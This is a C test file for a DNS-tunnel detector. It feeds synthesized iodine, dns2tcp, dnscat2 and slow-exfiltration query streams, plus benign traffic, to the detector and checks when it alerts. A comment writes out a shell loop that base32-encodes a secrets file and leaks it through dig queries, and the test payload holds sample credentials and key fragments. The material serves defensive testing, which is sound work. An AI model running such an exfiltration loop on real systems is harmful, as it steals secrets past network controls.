/*
 * test_dns_tunnel.c - the dns_tunnel detector (analyzers/detect_dns_tunnel.h)
 * on synthesized query streams: iodine-, dns2tcp- (real names from the
 * suricata-verify bug-1158 capture), dnscat2-like tunnels and a base32 dig
 * loop must be flagged within their first 20 queries; a one-name-a-minute
 * exfiltration within an hour of packet time; 2000+ ordinary queries over
 * 300+ names (CDN, UUID, _dmarc/_domainkey TXT, PTR, SRV, long readable
 * names) must raise nothing, with the shipped trusted zones and with none.
 * Also the label classes, the score, the thresholds at their edges, trusted
 * zones at dot boundaries, public-suffix cuts, escapes and the table bound.
 *
 * The cut cache (dns_tunnel_cut) is checked against libpsl over 40,000
 * names, under suffixes with deep, wildcard and exception rules, each cut
 * several times and by two states in opposite orders, so that hits, misses
 * and collisions all give the uncached answer; every cut, including those
 * derived from a parent name's cached cut, is checked against
 * psl_registrable_domain (and the data rule against its definition), with
 * and without the shipped trusted zones.
 *
 * Prints the measured detection delays (query index or minutes of packet
 * time of the first alert); docs/detection.md quotes them. DT_SEED=n runs
 * other random streams; DT_SWEEP=1 also prints how many alerts the benign
 * stream would raise at each tunnel_score from 20 to 70 (DT_TRUST=1: with
 * the shipped trusted zones), the margin to keep in mind when tuning.
 */
#include <libpsl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../../analyzers/detect_dns_tunnel.h"
#include "../../analyzers/module.h"
#include "../../sensor/rules.h"
#include "check.h"
#include "collide.h"
#include "../../sensor/text.h"

/* ---- harness ----------------------------------------------------------- */

struct cap {
	struct emit e; /* first: the module gets &cap.e */
	int n;         /* alerts seen */
	int first_q;   /* query index (1-based) of the first alert, 0 if none */
	uint64_t first_ts;
	int sev_first, sev_max, score_max;
	char subject[256];
	char detail[256];
	char evidence[1100];
	int other_subject; /* an alert whose subject differs from the first */
	int cur_q;     /* set by feed(): index of the query being fed */
};

static int cap_alert(struct emit *e, const struct alert *a)
{
	struct cap *c = (struct cap *)(void *)e;

	if (!a->class || strcmp(a->class, "dns_tunnel") != 0 || a->severity < 1 ||
	    a->severity > 5 || a->score < 0 || a->score > 100 || !a->subject || !a->detail ||
	    strlen(a->detail) > 256 || !a->pkt)
		c->other_subject = 1000; /* malformed alert: fails the callers' checks */
	if (c->n == 0) {
		c->first_q = c->cur_q;
		c->first_ts = a->pkt ? a->pkt->ts_us : 0;
		c->sev_first = a->severity;
		snprintf(c->subject, sizeof(c->subject), "%s", a->subject);
		snprintf(c->evidence, sizeof(c->evidence), "%s", a->evidence ? a->evidence : "");
	} else if (strcmp(c->subject, a->subject) != 0) {
		c->other_subject++;
	}
	if (a->severity > c->sev_max)
		c->sev_max = a->severity;
	if (a->score > c->score_max)
		c->score_max = a->score;
	snprintf(c->detail, sizeof(c->detail), "%s", a->detail);
	c->n++;
	return 0;
}

static void cap_init(struct cap *c)
{
	memset(c, 0, sizeof(*c));
	c->e.alert = cap_alert;
}

struct run {
	const struct module *m;
	void *st;
	struct cap cap;
	int q; /* queries fed */
};

static int run_open(struct run *r, const struct rules *rules)
{
	struct module_env env = {.rules = rules};

	memset(r, 0, sizeof(*r));
	r->m = &detect_dns_tunnel_module;
	cap_init(&r->cap);
	return r->m->init(&env, &r->st);
}

static void run_close(struct run *r)
{
	r->m->fini(r->st);
	r->st = NULL;
}

static const uint8_t SRC[4] = {10, 99, 0, 10}, RESOLVER[4] = {10, 99, 0, 53};

/* How feed() calls the module's prefetch hook: PF_NONE (as the unit tests
 * call detectors), PF_CORE (just before on_obs, as the core does), or
 * PF_DECOY (on another observation, with another name, first). */
enum { PF_NONE, PF_CORE, PF_DECOY };
static int pf_mode;

static void call_obs(struct run *r, const struct obs *o)
{
	if (pf_mode == PF_CORE) {
		r->m->prefetch(r->st, o);
	} else if (pf_mode == PF_DECOY) {
		struct obs d = *o;
		d.name = "Decoy.Example-Tunnel.test";
		d.name_len = strlen(d.name);
		r->m->prefetch(r->st, &d);
	}
	CHECK_EQ(r->m->on_obs(r->st, o, &r->cap.e), 0);
}

/* One query (and, when ans_size > 0, its answer 20 ms later). */
static void feed(struct run *r, uint64_t ts_us, const char *name, unsigned qtype, unsigned ans_size)
{
	struct pkt p;
	struct obs o;

	memset(&p, 0, sizeof(p));
	p.ts_us = ts_us;
	p.ipv = 4;
	p.proto = 17;
	memcpy(p.src, SRC, 4);
	memcpy(p.dst, RESOLVER, 4);
	p.sport = 41234;
	p.dport = 53;
	memset(&o, 0, sizeof(o));
	o.kind = OBS_DNS_QUERY;
	o.pkt = &p;
	o.name = name;
	o.name_len = strlen(name);
	o.type = (uint16_t)qtype;
	o.size = (uint32_t)(17 + o.name_len + 4);
	r->q++;
	r->cap.cur_q = r->q;
	call_obs(r, &o);
	if (ans_size) {
		struct pkt pa = p;
		memcpy(pa.src, RESOLVER, 4);
		memcpy(pa.dst, SRC, 4);
		pa.sport = 53;
		pa.dport = 41234;
		pa.ts_us = ts_us + 20000;
		o.kind = OBS_DNS_ANSWER;
		o.pkt = &pa;
		o.size = ans_size;
		call_obs(r, &o);
	}
	if ((r->q & 255) == 0)
		r->m->on_tick(r->st, ts_us, &r->cap.e);
}

/* ---- generators ----------------------------------------------------------- */

static uint64_t rng = 0x9e3779b97f4a7c15ull;

static uint32_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 16);
}

static void rand_from(char *dst, size_t n, const char *alphabet)
{
	size_t k = strlen(alphabet);
	for (size_t i = 0; i < n; i++)
		dst[i] = alphabet[rnd() % k];
	dst[n] = '\0';
}

static const char B32[] = "abcdefghijklmnopqrstuvwxyz234567";
static const char B32U[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
static const char IOD32[] = "abcdefghijklmnopqrstuvwxyz012345";
static const char HEX[] = "0123456789abcdef";
static const char ALNUM[] = "abcdefghijklmnopqrstuvwxyz0123456789";

/* RFC 4648 base32 (uppercase, '=' padding) of s[0..n). */
static size_t base32(char *dst, const uint8_t *s, size_t n)
{
	size_t o = 0, i = 0;
	while (i < n) {
		uint8_t b[5] = {0};
		size_t k = n - i < 5 ? n - i : 5;
		memcpy(b, s + i, k);
		uint64_t v = 0;
		for (int j = 0; j < 5; j++)
			v = v << 8 | b[j];
		size_t chars = (k * 8 + 4) / 5;
		for (size_t j = 0; j < 8; j++)
			dst[o++] = j < chars ? B32U[(v >> (35 - 5 * j)) & 31] : '=';
		i += k;
	}
	dst[o] = '\0';
	return o;
}

/* Split data into labels of at most lab chars joined by '.', then ".zone". */
static void labelize(char *dst, size_t cap, const char *data, size_t lab, const char *zone)
{
	size_t n = strlen(data), o = 0;
	for (size_t i = 0; i < n && o + 2 < cap; i++) {
		if (i && i % lab == 0)
			dst[o++] = '.';
		dst[o++] = data[i];
	}
	snprintf(dst + o, cap - o, ".%s", zone);
}

/* ---- tunnel streams (each returns the number of queries fed) ------------- */

/* iodine: handshake (version, login, codec checks) then upstream data in
 * base32 (iodine's a-z0-5 alphabet) and base128 (raw bytes, escaped),
 * NULL type, 3 labels of up to 57 characters, answers of ~200 bytes. */
static int stream_iodine(struct run *r, uint64_t t0, const char *zone, int n)
{
	static const char *const hs[] = {"vaaaakatn0", "vaaaakaqpn", "laaaaasdk1yfq",
					 "yrbaaaz0u", "yiaaatr2q"};
	char name[1200], data[1024];
	int i;

	for (i = 0; i < n; i++) {
		if (i < 5) {
			snprintf(data, sizeof(data), "%s", hs[i]);
			labelize(name, sizeof(name), data, 57, zone);
		} else if (i % 2) {
			data[0] = 'p';
			rand_from(data + 1, 150, IOD32);
			labelize(name, sizeof(name), data, 57, zone);
		} else {
			/* base128: a-z, A-Z, 0-9 and bytes 0xbc..0xfd, escaped \xNN */
			size_t o = 0;
			data[o++] = 'p';
			for (int k = 0; k < 110; k++) {
				if (k && k % 50 == 0)
					data[o++] = '.';
				uint32_t v = rnd() % 128;
				if (v < 62)
					data[o++] = ALNUM[v % 36] ^ (v >= 36 && ALNUM[v % 36] >= 'a' ? 0x20 : 0);
				else
					o += (size_t)sprintf(data + o, "\\x%02x", 0xbc + (v - 62));
			}
			data[o] = '\0';
			snprintf(name, sizeof(name), "%s.%s", data, zone);
		}
		feed(r, t0 + (uint64_t)i * 150000, name, 10 /* NULL */, 230);
	}
	return n;
}

/* dns2tcp: the first queries of suricata-verify's bug-1158 capture. */
static const char *const dns2tcp_names[] = {
	"AAAAAO1kQA.=auth.srv.tunnel.com",
	"hvOBgAABAEI5ODFGMjk4MEMyRTFFOEZDREI1MEZGRTA2OEIxQzMwODcyQTlBQjc.=auth.srv.tunnel.com",
	"hvP1kF5BAHNzaA.=connect.srv.tunnel.com",
	"hvMAAAABBA.srv.tunnel.com",
	"hvMAAQACBA.srv.tunnel.com",
	"hvMAAAADCFNTSC0yLjAtT3BlblNTSF82LjBwMSBEZWJpYW4tNA0K.srv.tunnel.com",
	"hvMAAAAEBA.srv.tunnel.com",
	"hvMAAAAFCAAABPQIFCP3jBGyCsqKjf9o1jmtOwgAAAC3ZWNkaC1zaGEyLW5pc3R.wMjU2LGVjZGgtc2hhMi1uaXN0cDM4NCxlY2RoLXNoYTItbmlzdHA1MjEsZGlmZm.llLWhlbGxtYW4tZ3JvdXAtZXhjaGFuZ2Utc2hhMjU2LGRpZmZp.srv.tunnel.com",
	"hvMAAAAGBA.srv.tunnel.com",
	"hvMAAAAHCGUtaGVsbG1hbi1ncm91cC1leGNoYW5nZS1zaGExLGRpZmZpZS1oZWx.sbWFuLWdyb3VwMTQtc2hhMSxkaWZmaWUtaGVsbG1hbi1ncm91cDEtc2hhMQAAAT.pzc2gtcnNhLWNlcnQtdjAxQG9wZW5zc2guY29tLHNzaC1yc2Et.srv.tunnel.com",
	"hvMAAAAIBA.srv.tunnel.com",
	"hvMAAAAJCGNlcnQtdjAwQG9wZW5zc2guY29tLHNzaC1yc2EsZWNkc2Etc2hhMi1.uaXN0cDI1Ni1jZXJ0LXYwMUBvcGVuc3NoLmNvbSxlY2RzYS1zaGEyLW5pc3RwMz.g0LWNlcnQtdjAxQG9wZW5zc2guY29tLGVjZHNhLXNoYTItbmlz.srv.tunnel.com",
	"hvMAAAAKBA.srv.tunnel.com",
	"hvMAAAALCHRwNTIxLWNlcnQtdjAxQG9wZW5zc2guY29tLHNzaC1kc3MtY2VydC1.2MDFAb3BlbnNzaC5jb20sc3NoLWRzcy1jZXJ0LXYwMEBvcGVuc3NoLmNvbSxlY2.RzYS1zaGEyLW5pc3RwMjU2LGVjZHNhLXNoYTItbmlzdHAzODQs.srv.tunnel.com",
	"hvMAAAAMBA.srv.tunnel.com",
	"hvMAAAANCGVjZHNhLXNoYTItbmlzdHA1MjEsc3NoLWRzcwAAAJ1hZXMxMjgtY3R.yLGFlczE5Mi1jdHIsYWVzMjU2LWN0cixhcmNmb3VyMjU2LGFyY2ZvdXIxMjgsYW.VzMTI4LWNiYywzZGVzLWNiYyxibG93ZmlzaC1jYmMsY2FzdDEy.srv.tunnel.com",
	"hvMAAAAOBA.srv.tunnel.com",
	"hvMAAAAPCDgtY2JjLGFlczE5Mi1jYmMsYWVzMjU2LWNiYyxhcmNmb3VyLHJpam5.kYWVsLWNiY0BseXNhdG9yLmxpdS5zZQAAAJ1hZXMxMjgtY3RyLGFlczE5Mi1jdH.IsYWVzMjU2LWN0cixhcmNmb3VyMjU2LGFyY2ZvdXIxMjgsYWVz.srv.tunnel.com",
	"hvMAAAAQBA.srv.tunnel.com",
	"hvMAAAARCDEyOC1jYmMsM2Rlcy1jYmMsYmxvd2Zpc2gtY2JjLGNhc3QxMjgtY2J.jLGFlczE5Mi1jYmMsYWVzMjU2LWNiYyxhcmNmb3VyLHJpam5kYWVsLWNiY0BseX.NhdG9yLmxpdS5zZQAAAKdobWFjLW1kNSxobWFjLXNoYTEsdW1h.srv.tunnel.com",
	"hvMAAAASCGMtNjRAb3BlbnNzaC5jb20saG1hYy1zaGEyLTI1NixobWFjLXNoYTI.tMjU2LTk2LGhtYWMtc2hhMi01MTIsaG1hYy1zaGEyLTUxMi05NixobWFjLXJpcG.VtZDE2MCxobWFjLXJpcGVtZDE2MEBvcGVuc3NoLmNvbSxobWFj.srv.tunnel.com",
	"hvMAAAATCC1zaGExLTk2LGhtYWMtbWQ1LTk2AAAAp2htYWMtbWQ1LGhtYWMtc2h.hMSx1bWFjLTY0QG9wZW5zc2guY29tLGhtYWMtc2hhMi0yNTYsaG1hYy1zaGEyLT.I1Ni05NixobWFjLXNoYTItNTEyLGhtYWMtc2hhMi01MTItOTYs.srv.tunnel.com",
	"hvMAAAAUCGhtYWMtcmlwZW1kMTYwLGhtYWMtcmlwZW1kMTYwQG9wZW5zc2guY29.tLGhtYWMtc2hhMS05NixobWFjLW1kNS05NgAAABpub25lLHpsaWJAb3BlbnNzaC.5jb20semxpYgAAABpub25lLHpsaWJAb3BlbnNzaC5jb20semxp.srv.tunnel.com",
	"hvMAAAAVCGIAAAAAAAAAAAAAAAAAAAAAAAAAAAA.srv.tunnel.com",
};
#define N_DNS2TCP ((int)(sizeof(dns2tcp_names) / sizeof(dns2tcp_names[0])))

static int stream_dns2tcp(struct run *r, uint64_t t0)
{
	for (int i = 0; i < N_DNS2TCP; i++)
		feed(r, t0 + (uint64_t)i * 80000, dns2tcp_names[i], 16 /* TXT */, 90);
	return N_DNS2TCP;
}

/* dnscat2: hex of the packet (session id, seq, ack, data) in labels of up
 * to 63, cycling TXT, CNAME and MX; prefix "dnscat." when direct (zone NULL). */
static int stream_dnscat2(struct run *r, uint64_t t0, const char *zone, int n)
{
	static const unsigned types[] = {16, 5, 15};
	char name[600], data[400];

	for (int i = 0; i < n; i++) {
		size_t len = i < 2 ? 24 + 2 * (rnd() % 8) : 60 + 2 * (rnd() % 80);
		snprintf(data, sizeof(data), "%04x%02x", 0x5c7a, i & 0xff);
		rand_from(data + 6, len, HEX);
		if (zone) {
			labelize(name, sizeof(name), data, 63, zone);
		} else {
			char tmp[sizeof(name) - 7]; /* "dnscat." before it */
			labelize(tmp, sizeof(tmp), data, 63, "x");
			tmp[strlen(tmp) - 2] = '\0';
			snprintf(name, sizeof(name), "dnscat.%s", tmp);
		}
		feed(r, t0 + (uint64_t)i * 1000000, name, types[i % 3], 120);
	}
	return n;
}

/* A shell loop: `base32 -w 52 secret | while read c; do dig $c.zone; done`
 * over a text file (uppercase, '=' padding on the last line). */
static int stream_dig_b32(struct run *r, uint64_t t0, const char *zone, int n, size_t width,
			  int gap_ms)
{
	static const char text[] =
		"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
		"AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/"
		"bPxRfiCYEXAMPLEKEY\nOPENAI_API_KEY=sk-proj-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c\n"
		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
		"QyNTUxOQAAACBGVmzXtHh0dR2ahFzKq+7Zzl0Kh0ZbCdDfKpmF5N3fHgAAAJhF1N3yRdTd\n"
		"-----END OPENSSH PRIVATE KEY-----\nThe meeting notes from Tuesday say we ship on Friday.\n";
	static char enc[4096];
	size_t elen = base32(enc, (const uint8_t *)text, sizeof(text) - 1);
	char name[400], chunk[80];

	for (int i = 0; i < n; i++) {
		size_t off = ((size_t)i * width) % elen;
		size_t k = elen - off < width ? elen - off : width;
		memcpy(chunk, enc + off, k);
		chunk[k] = '\0';
		snprintf(name, sizeof(name), "%s.%s", chunk, zone);
		feed(r, t0 + (uint64_t)i * (uint64_t)gap_ms * 1000, name, 1 /* A */, 60);
	}
	return n;
}

/* Slow exfiltration: one query a minute, a 30-character base32 label. */
static int stream_slow(struct run *r, uint64_t t0, const char *zone, int n)
{
	char name[200], lab[40];
	for (int i = 0; i < n; i++) {
		rand_from(lab, 30, B32);
		snprintf(name, sizeof(name), "%s.%s", lab, zone);
		feed(r, t0 + (uint64_t)i * 60000000, name, 1, 80);
	}
	return n;
}

/* ---- benign traffic ------------------------------------------------------- */

static const char *const popular[] = {
	"google.com", "github.com", "githubusercontent.com", "pypi.org", "pythonhosted.org",
	"npmjs.org", "npmjs.com", "openai.com", "anthropic.com", "microsoft.com", "apple.com",
	"amazon.com", "wikipedia.org", "stackoverflow.com", "debian.org", "ubuntu.com",
	"docker.io", "docker.com", "cloudflare.com", "mozilla.org", "bbc.co.uk", "example.co.uk",
	"gov.uk", "example.com.au", "example.org", "example.net", "example.com", "slack.com",
	"zoom.us", "office.com", "live.com", "yahoo.co.jp", "baidu.com", "sentry.io",
	"datadoghq.com", "segment.io", "stripe.com", "paypal.com", "twitter.com", "x.com",
	"facebook.com", "instagram.com", "linkedin.com", "reddit.com", "netflix.com", "nflxvideo.net",
	"spotify.com", "gitlab.com", "bitbucket.org", "atlassian.net", "jsdelivr.net",
	"unpkg.com", "rust-lang.org", "crates.io", "golang.org", "go.dev", "huggingface.co",
	"readthedocs.io", "letsencrypt.org", "digicert.com", "gstatic.com", "doubleclick.net",
};
#define N_POPULAR ((int)(sizeof(popular) / sizeof(popular[0])))

static const char *const hosts[] = {
	"www", "mail", "api", "cdn", "static", "img", "login", "accounts", "docs", "m",
	"assets", "files", "upload", "ws", "gateway", "auth", "status", "blog", "support",
	"images", "media", "download", "registry", "objects", "raw", "edge", "app", "portal",
};
#define N_HOSTS ((int)(sizeof(hosts) / sizeof(hosts[0])))

static const char *const words[] = {
	"the", "quick", "brown", "fox", "jumps", "over", "lazy", "dog", "how", "to",
	"configure", "nginx", "reverse", "proxy", "with", "lets", "encrypt", "on", "ubuntu",
	"release", "notes", "for", "version", "two", "migrating", "from", "python", "three",
	"understanding", "memory", "safety", "in", "modern", "systems", "programming",
	"a", "guide", "kubernetes", "network", "policies", "and", "service", "mesh",
};
#define N_WORDS ((int)(sizeof(words) / sizeof(words[0])))

/* Build benign name number k (of a pool); *type gets the qtype. */
static void benign_name(char *dst, size_t cap, int k, unsigned *type)
{
	char a[64], b[64];
	int kind = k % 16;

	*type = (k / 16) % 3 == 0 ? 28 : 1;
	switch (kind) {
	case 0: case 1: case 2: case 3: case 4: case 5:
		snprintf(dst, cap, "%s.%s", hosts[(k / 3) % N_HOSTS], popular[(k * 7) % N_POPULAR]);
		break;
	case 6: /* CloudFront distribution ids: d + 13 [a-z0-9] */
		if (k % 5 == 0)
			snprintf(dst, cap, "d1a2b3c4d5e6f7.cloudfront.net");
		else {
			rand_from(a, 13, ALNUM);
			snprintf(dst, cap, "d%s.cloudfront.net", a);
		}
		break;
	case 7: /* googlevideo: rN---sn-xxxxxxxx */
		if (k % 5 == 0)
			snprintf(dst, cap, "r4---sn-ab5l6nzr.googlevideo.com");
		else {
			rand_from(a, 8, ALNUM);
			snprintf(dst, cap, "r%u---sn-%s.googlevideo.com", 1 + rnd() % 9, a);
		}
		break;
	case 8: /* Akamai */
		switch (k % 3) {
		case 0: snprintf(dst, cap, "a%u.dscb.akamai.net", rnd() % 2000); break;
		case 1: snprintf(dst, cap, "e%u.a.akamaiedge.net", rnd() % 9000); break;
		default: snprintf(dst, cap, "www.%s.edgekey.net", popular[k % N_POPULAR]); break;
		}
		break;
	case 9: /* UUID-labelled API hosts */
		rand_from(a, 32, HEX);
		snprintf(dst, cap, "%.8s-%.4s-4%.3s-9%.3s-%.12s.%s", a, a + 8, a + 12, a + 15, a + 18,
			 k % 2 ? "api.example.com" : "tenants.saas-vendor.io");
		break;
	case 10: /* mail auth */
		*type = 16;
		if (k % 2)
			snprintf(dst, cap, "_dmarc.%s", popular[(k / 2) % N_POPULAR]);
		else
			snprintf(dst, cap, "selector%u._domainkey.%s", 1 + k % 2, popular[(k / 2) % N_POPULAR]);
		break;
	case 11: /* reverse look-ups */
		*type = 12;
		if (k % 7 == 0)
			snprintf(dst, cap, "b.a.9.8.7.6.5.4.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa");
		else
			snprintf(dst, cap, "%u.%u.%u.%u.in-addr.arpa", rnd() % 256, rnd() % 256, rnd() % 256,
				 1 + rnd() % 223);
		break;
	case 12: /* SRV */
		*type = 33;
		switch (k % 4) {
		case 0: snprintf(dst, cap, "_sip._tcp.example.com"); break;
		case 1: snprintf(dst, cap, "_xmpp-client._tcp.%s", popular[k % N_POPULAR]); break;
		case 2: snprintf(dst, cap, "_ldap._tcp.dc._msdcs.corp.example.com"); break;
		default: snprintf(dst, cap, "_kerberos._udp.%s", popular[k % N_POPULAR]); break;
		}
		break;
	case 13: { /* long human-readable names */
		size_t o = 0;
		int nw = 5 + (int)(rnd() % 6);
		if (k % 9 == 0) {
			snprintf(dst, cap, "the-quick-brown-fox-jumps-over-the-lazy-dog.blog.example.net");
			break;
		}
		b[0] = '\0';
		for (int w = 0; w < nw && o + 16 < sizeof(b); w++)
			o += (size_t)snprintf(b + o, sizeof(b) - o, "%s%s", w ? "-" : "",
					      words[rnd() % N_WORDS]);
		snprintf(dst, cap, "%.60s.blog.example.net", b);
		break;
	}
	case 14: /* S3 buckets, other registries under public suffixes */
		switch (k % 4) {
		case 0: snprintf(dst, cap, "my-data-bucket-%u.s3.amazonaws.com", rnd() % 20); break;
		case 1: snprintf(dst, cap, "www.x.co.uk"); break;
		case 2: snprintf(dst, cap, "project-%u.github.io", rnd() % 30); break;
		default: snprintf(dst, cap, "%s.herokuapp.com", words[rnd() % N_WORDS]); break;
		}
		break;
	default: /* hosts with numbers */
		snprintf(dst, cap, "%s%u.%s", hosts[k % N_HOSTS], rnd() % 40, popular[(k * 3) % N_POPULAR]);
		break;
	}
}

/* 2400 queries over a pool of names, with repeats (Zipf-ish), in page-load
 * bursts over ~40 minutes. Returns the number of distinct names fed. */
static int stream_benign(struct run *r, uint64_t t0, int nq)
{
	enum { POOL = 700 };
	static char pool[POOL][200];
	static unsigned ptype[POOL];
	static int used[POOL];
	int distinct = 0;
	uint64_t t = t0;

	for (int k = 0; k < POOL; k++) {
		benign_name(pool[k], sizeof(pool[k]), k, &ptype[k]);
		used[k] = 0;
	}
	for (int i = 0; i < nq; i++) {
		/* favour the head of the pool: repeats of popular names */
		int k = (int)(rnd() % POOL);
		if (rnd() % 2)
			k = k % 120;
		if (!used[k]++)
			distinct++;
		t += (i % 25 == 0) ? 5000000 + (uint64_t)(rnd() % 5000000) : 20000 + rnd() % 80000;
		feed(r, t, pool[k], ptype[k], 60 + rnd() % 400);
	}
	return distinct;
}

/* ---- tests ----------------------------------------------------------------- */

static int cls(const char *s)
{
	return dns_tunnel_label_class((const uint8_t *)s, strlen(s));
}

static void test_label_class(void)
{
	CHECK_EQ(cls("www"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("d1a2b3c4d5e6f7"), DNS_TUNNEL_PLAIN);          /* 14 < 16 */
	CHECK_EQ(cls("r4---sn-ab5l6nzr"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("3f2a1c9e-7b4d-4e8a-9c1f-2d3e4f5a6b7c"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("the-quick-brown-fox-jumps-over-the-lazy-dog"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("thequickbrownfoxjumpsoverthelazydog"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("windows10update2023server"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("MyVeryLongHostName"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("1234567890123456789012"), DNS_TUNNEL_PLAIN);   /* digits only */
	CHECK_EQ(cls("_domainkey"), DNS_TUNNEL_PLAIN);
	CHECK_EQ(cls("xn--bcher-kva8445foa"), DNS_TUNNEL_PLAIN);     /* IDN */
	CHECK_EQ(cls("9f86d081884c7d659a2feaa0c55ad015"), DNS_TUNNEL_HEX);
	CHECK_EQ(cls("9F86D081884C7D659A2FEAA0C55AD015"), DNS_TUNNEL_HEX);
	CHECK_EQ(cls("paaaaqb1nbswy3dpeb3w64tmmq"), DNS_TUNNEL_BASE32);
	CHECK_EQ(cls("NBSWY3DPEB3W64TMMQQGC3DMEBWGS5DU"), DNS_TUNNEL_BASE32);
	CHECK_EQ(cls("MZXW6YTBOI======"), DNS_TUNNEL_BASE32);
	CHECK_EQ(cls("hvOBgAABAEI5ODFGMjk4MEMyRTFFOEZDREI1MEZGRTA2OEIxQzMwODcyQTlBQjc"),
		 DNS_TUNNEL_BASE64);
	CHECK_EQ(cls("aGVsbG8gd29ybGQgdGhpcyBpcw"), DNS_TUNNEL_BASE64);
	CHECK_EQ(cls("H4sICN03*2QAA3Rlc3QudHh0AAvJyCxWAKJEheLU5KLUEoW0zJxULgAge-"), DNS_TUNNEL_RAW);
	{
		const uint8_t raw[] = {'p', 0xbc, 'a', 0xfd, 'Z', 0xc3, 'x', 'y', '1', 0xee};
		CHECK_EQ(dns_tunnel_label_class(raw, sizeof(raw)), DNS_TUNNEL_RAW);
	}
	CHECK_EQ(dns_tunnel_label_class(NULL, 0), DNS_TUNNEL_PLAIN);
}

static void test_score(void)
{
	struct dns_tunnel_feat f, g;

	memset(&f, 0, sizeof(f));
	CHECK_EQ(dns_tunnel_score(&f), 0);
	CHECK(dns_tunnel_entropy(&f) == 0);

	/* 8 unique 52-char base32 names, NULL type: near the top */
	char lab[64];
	for (int i = 0; i < 8; i++) {
		rand_from(lab, 52, B32);
		CHECK_EQ(dns_tunnel_feat_name(&f, lab, 52), 1);
		f.queries++;
		f.odd_type++;
	}
	CHECK_EQ(f.unique, 8);
	CHECK_EQ(f.encoded, 8);
	CHECK_EQ(f.max_label, 52);
	CHECK_EQ(f.sub_chars, 8 * 52);
	CHECK(dns_tunnel_entropy(&f) > 4.6 && dns_tunnel_entropy(&f) <= 5.0);
	CHECK(dns_tunnel_score(&f) >= 90);

	/* readable: nothing encoded, low score */
	memset(&g, 0, sizeof(g));
	for (int i = 0; i < 8; i++) {
		CHECK_EQ(dns_tunnel_feat_name(&g, "the-quick-brown-fox.blog", 24), 0);
		g.queries++;
	}
	CHECK(dns_tunnel_score(&g) < 40);

	/* monotone: one more encoded name never lowers the score */
	int before = dns_tunnel_score(&g);
	rand_from(lab, 40, B32);
	dns_tunnel_feat_name(&g, lab, 40);
	g.queries++;
	CHECK(dns_tunnel_score(&g) >= before);

	/* merge adds counts and keeps the longest label */
	struct dns_tunnel_feat m;
	memset(&m, 0, sizeof(m));
	dns_tunnel_feat_merge(&m, &f);
	dns_tunnel_feat_merge(&m, &g);
	CHECK_EQ(m.unique, f.unique + g.unique);
	CHECK_EQ(m.max_label, 52);

	/* escapes: \xNN is one byte, "\." stays in its label, "\\" is one byte */
	memset(&g, 0, sizeof(g));
	CHECK_EQ(dns_tunnel_feat_name(&g, "a\\.b.c\\\\d", 9), 0);
	CHECK_EQ(g.sub_chars, 6);
	CHECK_EQ(g.max_label, 3);
	memset(&g, 0, sizeof(g));
	CHECK_EQ(dns_tunnel_feat_name(&g, "p\\xbca\\xfdZ\\xc3xy1\\xee", 22), 1);
	CHECK_EQ(g.sub_chars, 10);

	/* the histogram halves instead of overflowing */
	memset(&g, 0, sizeof(g));
	static char big[70000];
	memset(big, 'a', sizeof(big) - 1);
	for (size_t i = 63; i < sizeof(big) - 1; i += 64)
		big[i] = '.';
	dns_tunnel_feat_name(&g, big, sizeof(big) - 1);
	CHECK(g.hist[0] > 30000);
}

/* A tunnel stream must be flagged (severity high) within its first 20
 * queries, on its registered domain. */
static void check_tunnel(const char *what, const struct rules *rules, const char *subject,
			 int (*gen)(struct run *), int expect_sev)
{
	struct run r;

	CHECK_EQ(run_open(&r, rules), 0);
	int n = gen(&r);
	printf("  %-34s first alert at query %2d of %d, severity %d, max score %d, %d alerts\n",
	       what, r.cap.first_q, n, r.cap.sev_first, r.cap.score_max, r.cap.n);
	printf("  %-34s subject %s; \"%s\"\n", "", r.cap.subject, r.cap.detail);
	CHECK(r.cap.first_q >= 1 && r.cap.first_q <= 20);
	CHECK_STR(r.cap.subject, subject);
	CHECK_EQ(r.cap.sev_first, expect_sev);
	CHECK_EQ(r.cap.other_subject, 0);
	CHECK(r.cap.evidence[0] != '\0');
	CHECK(strstr(r.cap.detail, "queries") && strstr(r.cap.detail, "bits/char"));
	run_close(&r);
}

static int g_iodine(struct run *r) { return stream_iodine(r, 1700000000000000ull, "t.example-tunnel.test", 40); }
static int g_dns2tcp(struct run *r) { return stream_dns2tcp(r, 1700000000000000ull); }
static int g_dnscat2(struct run *r) { return stream_dnscat2(r, 1700000000000000ull, "dc.attacker-c2.net", 40); }
static int g_dnscat2_direct(struct run *r) { return stream_dnscat2(r, 1700000000000000ull, NULL, 40); }
static int g_dig52(struct run *r) { return stream_dig_b32(r, 1700000000000000ull, "exfil.example.com", 40, 52, 300); }
static int g_dig32(struct run *r) { return stream_dig_b32(r, 1700000000000000ull, "x.exfil.co.uk", 40, 32, 300); }

static void test_tunnels(const struct rules *rules)
{
	check_tunnel("iodine (NULL, base32/base128)", rules, "example-tunnel.test", g_iodine, 4);
	check_tunnel("dns2tcp (TXT, base64, bug-1158)", rules, "tunnel.com", g_dns2tcp, 4);
	check_tunnel("dnscat2 (TXT/CNAME/MX, hex)", rules, "attacker-c2.net", g_dnscat2, 4);
	check_tunnel("dnscat2 direct (dnscat.<hex>)", rules, "dnscat", g_dnscat2_direct, 4);
	check_tunnel("dig loop, base32 -w 52", rules, "example.com", g_dig52, 4);
	check_tunnel("dig loop, base32 -w 32 (co.uk)", rules, "exfil.co.uk", g_dig32, 4);
}

